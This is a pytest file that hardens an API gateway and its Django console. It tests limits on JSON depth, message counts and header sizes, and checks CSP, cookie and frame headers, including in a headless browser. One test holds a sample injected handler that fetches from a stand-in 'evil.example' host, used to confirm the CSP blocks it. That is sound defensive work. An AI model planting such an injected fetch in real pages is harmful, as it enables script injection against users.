"""Operations hardening: limits on what a /v1 request may be (JSON depth, message count,
header sizes, content types), and the console's browser security headers, including a
Content-Security-Policy that still lets every script the console ships run."""

import base64
import hashlib
import html
import json
import re

import pytest
import requests
from allauth.account.models import EmailAddress
from django.contrib.auth import get_user_model
from django.test import Client

from console.pages.common import SESSION_KEY
from console.tenancy.models import Membership
from gateway.keys.api_keys import mint_api_key

HELLO = [{"role": "user", "content": "Say hello"}]
OK_BODY = {"model": "demo:echo", "messages": HELLO}


def check_error(resp: requests.Response, status: int, code: str, param=None, error_type="invalid_request_error"):
    """OpenAI's envelope with our request id, no stack trace; returns the message."""
    assert resp.status_code == status, resp.text[:300]
    assert resp.headers["content-type"].startswith("application/json")
    payload = resp.json()
    assert set(payload) == {"error", "request_id"}
    error = payload["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert (error["code"], error["type"], error["param"]) == (code, error_type, param)
    assert len(resp.headers["x-request-id"]) == 36 and payload["request_id"] == resp.headers["x-request-id"]
    assert len(error["message"]) > 10 and "Traceback" not in resp.text
    return error["message"]


def nested(depth: int):
    """A JSON value whose arrays nest `depth` levels deep."""
    value = "deep"
    for _ in range(depth):
        value = [value]
    return value


# -- /v1 request limits (live server) ----------------------------------------------------


@pytest.fixture
def post(gateway_url, api_key, catalog):
    def send(body=None, *, data=None, headers=None, **kwargs):
        all_headers = {"Authorization": f"Bearer {api_key}", "Content-Type": "application/json"}
        all_headers.update(headers or {})
        if body is not None:
            data = json.dumps(body)
        return requests.post(f"{gateway_url}/chat/completions", data=data, headers=all_headers, timeout=20, **kwargs)

    return send


@pytest.mark.django_db(transaction=True)
def test_json_nesting_is_limited_to_64_levels(post):
    # The body object is level 1, so metadata's arrays may add 63 more.
    assert post({**OK_BODY, "metadata": nested(63)}).status_code == 200
    message = check_error(post({**OK_BODY, "metadata": nested(64)}), 400, "invalid_json")
    assert "nested too deeply" in message and "64" in message
    # Far deeper than Python's recursion limit: the same answer, not a crash.
    message = check_error(post(data='{"a": ' + "[" * 100_000 + "]" * 100_000 + "}"), 400, "invalid_json")
    assert "nested too deeply" in message


@pytest.mark.django_db(transaction=True)
def test_the_depth_limit_follows_its_setting(post, settings):
    settings.GATEWAY_MAX_JSON_DEPTH = 8
    assert post({**OK_BODY, "metadata": nested(4)}).status_code == 200
    assert post({**OK_BODY, "metadata": nested(7)}).status_code == 200
    assert "8 levels" in check_error(post({**OK_BODY, "metadata": nested(8)}), 400, "invalid_json")


@pytest.mark.django_db(transaction=True)
def test_messages_are_limited_to_2048(post):
    many = [{"role": "user", "content": "hi"}] * 2048
    assert post({**OK_BODY, "messages": many, "max_tokens": 1}).status_code == 200
    message = check_error(post({**OK_BODY, "messages": many + HELLO}), 400, "too_many_messages", param="messages")
    assert "2049" in message and "2048" in message and "messages" in message


@pytest.mark.django_db(transaction=True)
def test_a_multipart_body_is_refused_with_a_helpful_message(post, gateway_url, api_key):
    resp = requests.post(f"{gateway_url}/chat/completions", headers={"Authorization": f"Bearer {api_key}"},
                         files={"file": ("body.json", json.dumps(OK_BODY), "application/json")}, timeout=10)
    message = check_error(resp, 400, "invalid_content_type")
    assert "multipart/form-data" in message and "application/json" in message
    resp = requests.post(f"{gateway_url}/embeddings", headers={"Authorization": f"Bearer {api_key}"},
                         files={"input": "hello"}, data={"model": "demo:echo"}, timeout=10)
    check_error(resp, 400, "invalid_content_type")
    # The key is still checked first.
    resp = requests.post(f"{gateway_url}/chat/completions", files={"input": "hello"}, timeout=10)
    check_error(resp, 401, "invalid_api_key")


@pytest.mark.django_db(transaction=True)
def test_a_json_body_under_another_content_type_is_still_read(post):
    # curl -d sends application/x-www-form-urlencoded unless told otherwise.
    for content_type in ["application/x-www-form-urlencoded", "text/plain", "application/json; charset=utf-8"]:
        resp = post(OK_BODY, headers={"Content-Type": content_type})
        assert resp.status_code == 200, (content_type, resp.text[:300])
    assert post(data=json.dumps(OK_BODY).encode(), headers={"Content-Type": ""}).status_code == 200


@pytest.mark.django_db(transaction=True)
def test_an_oversized_authorization_header_is_refused(gateway_url, api_key, catalog):
    for header in [f"Bearer {api_key}" + "a" * 1024, "Bearer sk-" + "x" * 5000, "x" * 1025]:
        for resp in [
            requests.post(f"{gateway_url}/chat/completions", json=OK_BODY, headers={"Authorization": header},
                          timeout=10),
            requests.get(f"{gateway_url}/models", headers={"Authorization": header}, timeout=10),
        ]:
            message = check_error(resp, 401, "invalid_api_key")
            assert "Malformed" in message and "1024" in message and "Bearer sk-" in message
            assert resp.headers["www-authenticate"].startswith("Bearer")
            assert header not in resp.text
    # A header just under the limit goes on to the ordinary checks.
    resp = requests.get(f"{gateway_url}/models", headers={"Authorization": "Bearer sk-" + "x" * 1000}, timeout=10)
    assert "1024" not in check_error(resp, 401, "invalid_api_key")


@pytest.mark.django_db(transaction=True)
def test_limits_apply_to_embeddings_too(gateway_url, api_key, catalog):
    resp = requests.post(f"{gateway_url}/embeddings", json={"model": "demo:echo", "input": "x", "extra": nested(80)},
                         headers={"Authorization": f"Bearer {api_key}"}, timeout=10)
    check_error(resp, 400, "invalid_json")


# -- console security headers (Django's test client) --------------------------------------


CSP_DIRECTIVES = {
    "default-src": "'self'",
    "img-src": "'self' data:",
    "style-src": "'self' 'unsafe-inline'",
    "frame-ancestors": "'none'",
    "base-uri": "'self'",
    "form-action": "'self'",
}


def csp_of(resp) -> dict:
    policy = resp["Content-Security-Policy"]
    return {part.split()[0]: part.split(None, 1)[1] for part in policy.split("; ")}


def sha256(source: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode() + "'"


@pytest.fixture
def owner(org):
    user = get_user_model().objects.get(email="alice@alpha.example")
    browser = Client()
    browser.force_login(user)
    session = browser.session
    session[SESSION_KEY] = org.pk
    session.save()
    return browser


@pytest.mark.django_db
def test_console_pages_carry_the_security_headers(owner):
    for browser, path in [(Client(), "/"), (Client(), "/accounts/login/"), (Client(), "/accounts/signup/"),
                          (owner, "/dashboard/"), (owner, "/keys/"), (Client(), "/no-such-page/")]:
        resp = browser.get(path)
        assert resp["Content-Type"].startswith("text/html"), path
        policy = csp_of(resp)
        for name, value in CSP_DIRECTIVES.items():
            assert policy[name] == value, (path, name)
        assert policy["script-src"].startswith("'self'") and "unsafe-inline" not in policy["script-src"]
        assert "unsafe-eval" not in policy["script-src"]
        assert resp["X-Frame-Options"] == "DENY", path
        assert resp["X-Content-Type-Options"] == "nosniff", path
        assert resp["Referrer-Policy"] == "same-origin", path
        assert resp["Cross-Origin-Opener-Policy"] == "same-origin", path


@pytest.mark.django_db
def test_the_session_and_csrf_cookies_are_http_only(org):
    resp = Client().get("/accounts/login/")
    assert resp.cookies["csrftoken"]["httponly"] and resp.cookies["csrftoken"]["samesite"] == "Lax"
    user = get_user_model().objects.get(email="alice@alpha.example")
    user.set_password("correct horse 42")
    user.save()
    EmailAddress.objects.update_or_create(user=user, email=user.email, defaults={"verified": True, "primary": True})
    resp = Client().post("/accounts/login/", {"login": "alice@alpha.example", "password": "correct horse 42"})
    assert resp.status_code == 302
    assert resp.cookies["sessionid"]["httponly"] and resp.cookies["sessionid"]["samesite"] == "Lax"


@pytest.mark.django_db(transaction=True)
def test_the_api_and_the_admin_get_no_content_security_policy(live_server, api_key, catalog):
    resp = requests.get(f"{live_server.url}/v1/models", headers={"Authorization": f"Bearer {api_key}"}, timeout=10)
    assert resp.status_code == 200 and "Content-Security-Policy" not in resp.headers
    resp = requests.get(f"{live_server.url}/v1/nope", timeout=10)
    assert resp.status_code == 404 and "Content-Security-Policy" not in resp.headers
    resp = requests.get(f"{live_server.url}/admin/login/", timeout=10)
    assert resp.status_code == 200 and "Content-Security-Policy" not in resp.headers
    assert resp.headers["X-Frame-Options"] == "DENY"


INLINE_SCRIPT = re.compile(r"<script(?P<attrs>[^>]*)>(?P<body>.*?)</script>", re.S | re.I)
EVENT_HANDLER = re.compile(r"""\son[a-z]+\s*=\s*(?:"([^"]*)"|'([^']*)')""", re.I)


def assert_inline_code_allowed(resp) -> set[str]:
    """Every inline script and event handler on the page is allowed by its CSP; returns
    their sources."""
    page = resp.content.decode()
    script_src = csp_of(resp)["script-src"].split()
    found = set()
    for match in INLINE_SCRIPT.finditer(page):
        attrs = match.group("attrs")
        if "src=" in attrs or "application/json" in attrs:
            continue  # a file from 'self', or a data block the browser never runs
        assert sha256(match.group("body")) in script_src, f"inline script not allowed:\n{match.group('body')[:200]}"
        found.add(match.group("body"))
    for double, single in EVENT_HANDLER.findall(page):
        source = html.unescape(double or single)
        assert "'unsafe-hashes'" in script_src and sha256(source) in script_src, f"handler not allowed: {source}"
        found.add(source)
    return found


@pytest.mark.django_db
def test_the_consoles_own_inline_scripts_and_handlers_are_allowed(owner, org, catalog):
    key, _ = mint_api_key(org, name="ci")
    other = get_user_model().objects.create_user(username="o'bob@alpha.example", email="o'bob@alpha.example")
    Membership.objects.create(user=other, organization=org, role=Membership.Role.MEMBER)
    org.name = "Alpha <Labs> & 'Co' \"x\""
    org.save()
    found = set()
    for path in ["/dashboard/", "/keys/", f"/keys/{key.pk}/", "/keys/new/", "/usage/", "/billing/", "/models/",
                 "/quickstart/", "/playground/", "/members/", "/orgs/new/", "/accounts/password/set/"]:
        resp = owner.get(path)
        assert resp.status_code == 200, path
        found |= assert_inline_code_allowed(resp)
    resp = owner.post("/keys/new/", {"name": "backend"})
    assert "new-secret" in resp.content.decode()
    found |= assert_inline_code_allowed(resp)
    # What the console has today: the keys' confirm script, the new key's copy script,
    # and the organization switcher (the members page reuses the confirm script).
    assert any("form[data-confirm]" in source for source in found)
    assert any("copy-secret" in source for source in found)
    assert "this.form.submit()" in found


def test_an_injected_handler_would_not_be_allowed():
    # Only handlers written literally in templates/ are hashed; nothing a page carries is.
    from gateway.api.middleware import content_security_policy

    evil = "return confirm('x') && fetch('//evil.example')"
    assert sha256(evil) not in content_security_policy()


def test_social_login_providers_may_receive_the_login_form(settings):
    from gateway.api.middleware import content_security_policy

    assert "form-action 'self';" in content_security_policy()
    settings.SOCIALACCOUNT_PROVIDERS = {"github": {}}
    assert "form-action 'self' https://github.com;" in content_security_policy()


@pytest.mark.django_db(transaction=True)
def test_a_real_browser_runs_the_consoles_scripts_under_the_policy(live_server, org, catalog, monkeypatch):
    """Chromium reports any script, handler or style the policy blocks; the console has none."""
    from tests.browser.support import CHROMIUM, CHROMIUM_ARGS, DESKTOP, TIMEOUT_MS, skip_or_fail_without_browser

    skip_or_fail_without_browser()
    from playwright.sync_api import sync_playwright

    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")  # the ORM beside Playwright's loop
    user = get_user_model().objects.get(email="alice@alpha.example")
    bob = get_user_model().objects.create_user(username="bob@alpha.example", email="bob@alpha.example")
    Membership.objects.create(user=bob, organization=org, role=Membership.Role.MEMBER)
    key, _ = mint_api_key(org, name="ci")
    browser_client = Client()
    browser_client.force_login(user)
    session = browser_client.session
    session[SESSION_KEY] = org.pk
    session.save()
    violations, dialogs = [], []
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = chromium.new_context(viewport=DESKTOP)
            context.set_default_timeout(TIMEOUT_MS)
            context.add_cookies([{"name": "sessionid", "value": session.session_key, "url": live_server.url}])
            page = context.new_page()
            page.on("console", lambda msg: violations.append(f"{page.url}: {msg.text}")
                    if "Content Security Policy" in msg.text else None)
            for path in ["/", "/dashboard/", "/keys/", f"/keys/{key.pk}/", "/usage/", "/models/", "/playground/"]:
                page.goto(live_server.url + path)
                page.wait_for_load_state("networkidle")
            # The members page's inline confirm handler runs: dismissing it keeps bob.
            page.goto(live_server.url + "/members/")
            page.once("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.get_by_role("button", name="Remove", exact=True).click()
            page.wait_for_load_state()
            # The keys' inline confirm script runs too.
            page.goto(live_server.url + "/keys/")
            page.once("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.get_by_role("button", name="Revoke", exact=True).first.click()
            page.wait_for_load_state()
        finally:
            chromium.close()
    assert not violations, "\n".join(violations)
    assert len(dialogs) == 2 and "bob@alpha.example" in dialogs[0], dialogs
    assert Membership.objects.filter(user=bob).exists()
    key.refresh_from_db()
    assert key.revoked_at is None
